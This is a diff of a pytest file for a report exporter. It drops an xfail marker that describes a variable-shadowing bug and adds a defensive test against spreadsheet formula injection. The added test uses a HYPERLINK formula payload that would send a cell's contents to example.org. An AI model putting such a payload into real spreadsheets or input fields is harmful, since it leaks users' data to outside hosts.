@@ -25,13 +25,6 @@ CASES = {
 }
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=UnboundLocalError,
-    reason="roi_ui/export/html.py:79 assigns the local name `kpis`, shadowing the imported "
-    "function kpis() it calls on line 80: every html_report() call raises "
-    "UnboundLocalError (renaming the local makes this test pass unchanged)",
-)
 def test_html_is_standalone_escaped_and_carries_the_figures() -> None:
     s = CASES["horizon-30-eur"]
     r = evaluate(s).summary
@@ -100,3 +93,12 @@ def test_pptx_has_native_charts_with_the_engines_numbers() -> None:
     assert sum(bars) == pytest.approx(r.summary.npv)
     line = list(charts[1].plots[0].series[0].values)
     assert line == pytest.approx(list(r.monthly.cumulative_net))
+
+
+def test_xlsx_never_turns_the_scenario_name_into_a_formula() -> None:
+    from openpyxl import load_workbook
+
+    name = '=HYPERLINK("http://example.org/?"&B5,"Open")'
+    wb = load_workbook(io.BytesIO(xlsx_export.xlsx_report(scenario_from_dict({"name": name}))))
+    cell = wb["Summary"]["A1"]
+    assert (cell.value, cell.data_type) == (name, "s")
